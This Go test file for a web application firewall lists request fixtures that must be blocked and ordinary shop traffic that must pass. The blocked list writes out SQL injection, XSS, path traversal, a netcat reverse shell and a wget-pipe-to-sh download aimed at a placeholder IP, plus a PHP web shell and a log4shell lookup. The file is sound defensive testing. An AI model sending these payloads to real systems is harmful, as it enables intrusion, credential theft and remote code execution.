package waf

import (
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
)

// req is one request of a corpus.
type req struct {
	name    string
	method  string
	target  string // path and query, as sent
	ctype   string // Content-Type of body
	body    string
	headers map[string]string // beyond the browser-like defaults; "" deletes one
}

// build makes the request as a server would see it, with the headers a browser sends.
func (q req) build() *http.Request {
	m := q.method
	if m == "" {
		m = http.MethodGet
	}
	var r *http.Request
	if q.body != "" {
		r = httptest.NewRequest(m, q.target, strings.NewReader(q.body))
	} else {
		r = httptest.NewRequest(m, q.target, nil)
	}
	r.Host = "shop.example.com"
	r.RemoteAddr = "203.0.113.7:51234"
	h := r.Header
	h.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	h.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
	h.Set("Accept-Language", "en-GB,en;q=0.7,fr;q=0.3")
	h.Set("Accept-Encoding", "gzip, deflate, br, zstd")
	h.Set("Connection", "keep-alive")
	if q.body != "" {
		h.Set("Content-Type", q.ctype)
		h.Set("Content-Length", strconv.Itoa(len(q.body)))
	}
	for k, v := range q.headers {
		if v == "" {
			h.Del(k)
			continue
		}
		h.Set(k, v)
	}
	return r
}

const (
	form = "application/x-www-form-urlencoded"
	json = "application/json"
)

// attacks must all be blocked at paranoia 1, threshold 5.
var attacks = []req{
	// SQL injection
	{name: "sqli tautology", target: "/item?id=1'%20OR%20'1'='1"},
	{name: "sqli tautology numeric", target: "/item?id=1%20OR%201=1--"},
	{name: "sqli union select", target: "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"},
	{name: "sqli union all select null", target: "/item?id=-1'%20UNION%20ALL%20SELECT%20NULL,NULL,version()--%20-"},
	{name: "sqli sleep", target: "/item?id=1'%20AND%20SLEEP(5)--%20-"},
	{name: "sqli stacked drop", target: "/item?id=1;%20DROP%20TABLE%20users;--"},
	{name: "sqli in form body", method: "POST", target: "/login", ctype: form, body: "user=admin'--&pass=x"},
	{name: "sqli union in form body", method: "POST", target: "/search", ctype: form, body: "q=1' UNION SELECT password FROM users--"},
	{name: "sqli in json body", method: "POST", target: "/api/login", ctype: json, body: `{"user":"admin' OR '1'='1","pass":"x"}`},
	{name: "sqli in cookie", target: "/", headers: map[string]string{"Cookie": "session=1' OR '1'='1"}},
	// XSS
	{name: "xss script tag", target: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"},
	{name: "xss img onerror", target: "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"},
	{name: "xss javascript uri", target: "/redirect?url=javascript:alert(document.cookie)"},
	{name: "xss svg onload", target: "/search?q=%3Csvg/onload=alert(1)%3E"},
	{name: "xss in form body", method: "POST", target: "/comment", ctype: form, body: "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
	{name: "xss in json body", method: "POST", target: "/api/comments", ctype: json, body: `{"text":"<img src=x onerror=alert(1)>"}`},
	// Path traversal and local files
	{name: "traversal encoded path", target: "/static/..%2f..%2f..%2fetc%2fpasswd"},
	{name: "traversal double encoded", target: "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	{name: "traversal in query", target: "/download?file=../../../../etc/passwd"},
	{name: "traversal dot-dot-backslash", target: "/download?file=..%5c..%5c..%5cwindows%5cwin.ini"},
	{name: "lfi proc self", target: "/download?file=/proc/self/environ"},
	// Command injection
	{name: "rce semicolon cat", target: "/ping?host=127.0.0.1;cat%20/etc/passwd"},
	{name: "rce subshell", target: "/ping?host=$(id)"},
	// Not blocked at paranoia 1, so not listed: "/ping?host=%60id%60" (`id` in backticks
	// alone scores nothing at PL1).
	{name: "rce pipe nc", target: "/ping?host=127.0.0.1%7Cnc%20-e%20/bin/sh%20198.51.100.1%204444"},
	{name: "rce in form body", method: "POST", target: "/tools/ping", ctype: form, body: "host=8.8.8.8;wget http://198.51.100.1/x.sh -O- | sh"},
	// Other protocol and application attacks
	{name: "rfi", target: "/page?inc=http://198.51.100.1/shell.txt?"},
	{name: "php injection", target: "/page?x=%3C?php%20system($_GET['c']);%20?%3E"},
	{name: "log4shell", target: "/", headers: map[string]string{"X-Api-Version": "${jndi:ldap://198.51.100.1/a}"}},
	{name: "scanner nikto", target: "/", headers: map[string]string{"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"}},
	{name: "scanner sqlmap", target: "/", headers: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
}

// ordinary must all be let through at paranoia 1, threshold 5.
var ordinary = []req{
	{name: "home", target: "/"},
	{name: "home with cookies and referer", target: "/", headers: map[string]string{
		"Cookie":  "sid=Fe26.2**0b7c1e4f8a; _ga=GA1.2.1234567890.1700000000; theme=dark; consent=%7B%22ads%22%3Afalse%7D",
		"Referer": "https://www.google.com/"}},
	{name: "product page", target: "/products/blue-widget-42"},
	{name: "category with paging", target: "/c/shoes?page=3&sort=price_asc&size=42"},
	{name: "search plain", target: "/search?q=winter+jacket"},
	{name: "search apostrophe", target: "/search?q=O%27Brien"},
	{name: "search possessive", target: "/search?q=children%27s+books"},
	{name: "search quotes", target: "/search?q=%22the+hobbit%22"},
	{name: "search with dash and plus", target: "/search?q=usb-c+cable+2m"},
	{name: "search utf8", target: "/search?q=%C3%A9t%C3%A9+%C3%A0+Z%C3%BCrich"},
	{name: "search cjk", target: "/search?q=%E6%9D%B1%E4%BA%AC%E3%82%BF%E3%83%AF%E3%83%BC"},
	{name: "utf8 path", target: "/wiki/Caf%C3%A9_au_lait"},
	{name: "emoji path", target: "/tags/%F0%9F%8D%95"},
	{name: "stylesheet", target: "/assets/css/main.3f2a1b.css", headers: map[string]string{"Accept": "text/css,*/*;q=0.1"}},
	{name: "script", target: "/assets/js/app.bundle.min.js?v=20240101", headers: map[string]string{"Accept": "*/*"}},
	{name: "image", target: "/img/products/widget@2x.webp", headers: map[string]string{"Accept": "image/avif,image/webp,*/*"}},
	{name: "favicon", target: "/favicon.ico"},
	{name: "font", target: "/fonts/inter-var.woff2"},
	{name: "robots", target: "/robots.txt"},
	{name: "sitemap", target: "/sitemap.xml"},
	{name: "date range", target: "/reports?from=2024-01-01&to=2024-12-31&tz=Europe%2FParis"},
	{name: "utm params", target: "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024"},
	{name: "oauth callback", target: "/oauth/callback?code=4%2F0AfJohXk9&state=af0ifjsldkj&scope=openid%20email"},
	{name: "email in query", target: "/unsubscribe?email=jane.doe%2Bnews%40example.org"},
	{name: "comma list", target: "/api/items?ids=12,15,99&fields=name,price"},
	{name: "redirect path", target: "/login?next=%2Faccount%2Forders"},
	{name: "conditional get", target: "/news", headers: map[string]string{"If-None-Match": `W/"5e15153d-120f"`, "If-Modified-Since": "Tue, 15 Nov 1994 12:45:26 GMT"}},
	{name: "range request", target: "/video/intro.mp4", headers: map[string]string{"Range": "bytes=0-1048575"}},
	{name: "api bearer", target: "/api/v1/me", headers: map[string]string{"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", "Accept": "application/json"}},
	{name: "curl", target: "/healthz", headers: map[string]string{"User-Agent": "curl/8.5.0", "Accept": "*/*", "Accept-Language": ""}},
	{name: "head", method: "HEAD", target: "/index.html"},
	{name: "options preflight", method: "OPTIONS", target: "/api/v1/items", headers: map[string]string{"Origin": "https://app.example.com", "Access-Control-Request-Method": "PUT"}},
	{name: "form login", method: "POST", target: "/login", ctype: form, body: "username=jane.doe%40example.org&password=correct+horse+battery+staple&remember=on"},
	{name: "form with apostrophe", method: "POST", target: "/contact", ctype: form, body: "name=Siobhan+O%27Brien&message=Hello%2C+I+can%27t+find+my+order+%2312345.+Thanks%21"},
	{name: "form checkout", method: "POST", target: "/checkout", ctype: form, body: "address=12+Rue+de+la+Paix&city=Paris&zip=75002&country=FR&qty=2&sku=WID-42"},
	{name: "form utf8", method: "POST", target: "/profile", ctype: form, body: "name=J%C3%BCrgen+M%C3%BCller&bio=Gr%C3%BC%C3%9Fe+aus+M%C3%BCnchen"},
	{name: "json create", method: "POST", target: "/api/v1/orders", ctype: json, body: `{"items":[{"sku":"WID-42","qty":2},{"sku":"GAD-7","qty":1}],"coupon":"SPRING24","note":"Leave at the door"}`},
	{name: "json nested", method: "POST", target: "/api/v1/events", ctype: json, body: `{"type":"page_view","ts":1700000000123,"props":{"path":"/products/blue","ref":"https://www.google.com/","screen":{"w":1920,"h":1080}}}`},
	{name: "json text", method: "POST", target: "/api/v1/reviews", ctype: json, body: `{"rating":5,"title":"Great value","text":"I've bought three of these; they're sturdy and the price is right."}`},
	{name: "json put", method: "PUT", target: "/api/v1/items/42", ctype: json, body: `{"name":"Blue widget","price":19.99,"tags":["blue","widget"]}`},
	// With Content-Type application/merge-patch+json this is refused by 920420 at PL1: the
	// CRS allows only a short list of content types (JSON-derived +json types are not on it).
	{name: "json patch", method: "PATCH", target: "/api/v1/items/42", ctype: json, body: `{"price":17.5}`},
	{name: "json with charset", method: "POST", target: "/api/v1/items", ctype: "application/json; charset=utf-8", body: `{"name":"Caf\u00e9","price":3.2}`},
	{name: "multipart upload", method: "POST", target: "/upload", ctype: "multipart/form-data; boundary=XyZ",
		body: "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photo\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF\r\n--XyZ--\r\n"},
	{name: "delete", method: "DELETE", target: "/api/v1/items/42", headers: map[string]string{"Authorization": "Bearer abc.def.ghi"}},
	{name: "graphql", method: "POST", target: "/graphql", ctype: json, body: `{"query":"query Product($id: ID!) { product(id: $id) { name price } }","variables":{"id":"42"}}`},
}
